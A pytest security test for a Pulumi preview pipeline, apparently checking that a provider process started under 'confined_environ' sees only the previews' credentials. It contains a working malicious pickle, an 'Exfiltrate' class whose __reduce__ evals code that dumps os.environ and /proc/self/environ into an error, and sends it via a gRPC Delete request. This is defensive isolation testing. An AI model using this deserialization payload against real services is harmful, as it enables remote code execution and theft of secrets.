"""A preview's state was written by pull-request code, and the real provider process unpickles its
`__provider` on Delete. A crafted pickle sent to that process, started as tools/previews.py starts Pulumi
(`confined_environ`), reaches the previews' credentials (which it had at `up`) and no other of the job's;
that the job holds none is tests/workflows/test_workflow_trust.py's."""

from __future__ import annotations

import base64
import json
import os
import pickle
from collections.abc import Iterator
from typing import Any

import grpc
import pytest
from pulumi.runtime.proto import provider_pb2

from tests.support.provider_process import provider_process, struct
from tools.previews import confined_environ

URN = "urn:pulumi:infra-pr-7::cartly-infra::pulumi-python:dynamic/railway:Variables::web"
PREVIEWS = {
    "PULUMI_BACKEND_URL": "s3://cartly-previews-state",
    "PULUMI_CONFIG_PASSPHRASE": "previews-passphrase-0001",
    "RAILWAY_API_TOKEN": "previews-railway-token-0001",
    "AWS_ACCESS_KEY_ID": "AKIAPREVIEWS0001",
    "AWS_SECRET_ACCESS_KEY": "previews-aws-secret-0001",
}
# What a careless job could also hold: none of it may reach the unpickled code.
ELSEWHERE = {
    "GITHUB_TOKEN": "ghp_infra_admin_token_0001",
    "INFRA_GITHUB_TOKEN": "ghp_infra_admin_token_0002",
    "GH_TOKEN": "ghs_run_token_0003",
    "RAILWAY_TOKEN": "production-project-token-0001",
    "PULUMI_ACCESS_TOKEN": "pul-production-0001",
    "ACTIONS_ID_TOKEN_REQUEST_TOKEN": "oidc-request-token-0001",
    "ACTIONS_RUNTIME_TOKEN": "actions-runtime-token-0001",
    "SLACK_BOT_TOKEN": "xoxb-production-0001",
    "PRODUCTION_DATABASE_URL": "postgres://prod:prod-password-0001@db/prod",
    "LEGACY_CONN": "redis://default:redis-password-0001@cache:6379",
}

# Runs on unpickling: gathers what it can read and hands it back in the error the engine would log.
PAYLOAD = (
    "(_ for _ in ()).throw(RuntimeError('LOOT' + __import__('json').dumps({"
    "'env': dict(__import__('os').environ),"
    "'proc': open('/proc/self/environ', 'rb').read().decode(errors='replace')})))"
)


class Exfiltrate:
    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return (eval, (PAYLOAD,))


@pytest.fixture
def provider_started_like_previews(monkeypatch: pytest.MonkeyPatch) -> Iterator[Any]:
    """The provider process, started inside tools/previews.py's confinement from a job holding everything."""
    for name, value in {**PREVIEWS, **ELSEWHERE}.items():
        monkeypatch.setenv(name, value)
    with confined_environ():
        env = dict(os.environ)  # what the Automation API hands the CLI, and the CLI its plugins
    with provider_process(env) as stub:
        yield stub


def loot_of_a_delete(stub: Any) -> dict[str, Any]:
    state = {"project_id": "p", "__provider": base64.b64encode(pickle.dumps(Exfiltrate())).decode()}
    with pytest.raises(grpc.RpcError) as caught:
        stub.Delete(provider_pb2.DeleteRequest(id="web", urn=URN, properties=struct(state)))
    details = str(caught.value.details())
    assert "LOOT" in details, details  # the payload ran: this is what it could read
    loot: dict[str, Any] = json.loads(details.split("LOOT", 1)[1].strip().rstrip("'\""))
    return loot


def test_the_planted_provider_runs_on_delete_and_reaches_the_previews_credentials_only(
    provider_started_like_previews: Any,
) -> None:
    loot = loot_of_a_delete(provider_started_like_previews)
    seen = json.dumps(loot)
    assert len(loot["env"]) >= len(PREVIEWS)
    assert {k: loot["env"].get(k) for k in PREVIEWS} == PREVIEWS
    assert [name for name in ELSEWHERE if name in loot["env"]] == []
    assert [name for name, value in ELSEWHERE.items() if value in seen] == []


def test_the_process_own_initial_environment_holds_no_other_credential(
    provider_started_like_previews: Any,
) -> None:
    proc = loot_of_a_delete(provider_started_like_previews)["proc"]
    names = {entry.split("=", 1)[0] for entry in proc.split("\0") if entry}
    assert set(PREVIEWS) <= names
    assert names & set(ELSEWHERE) == set()
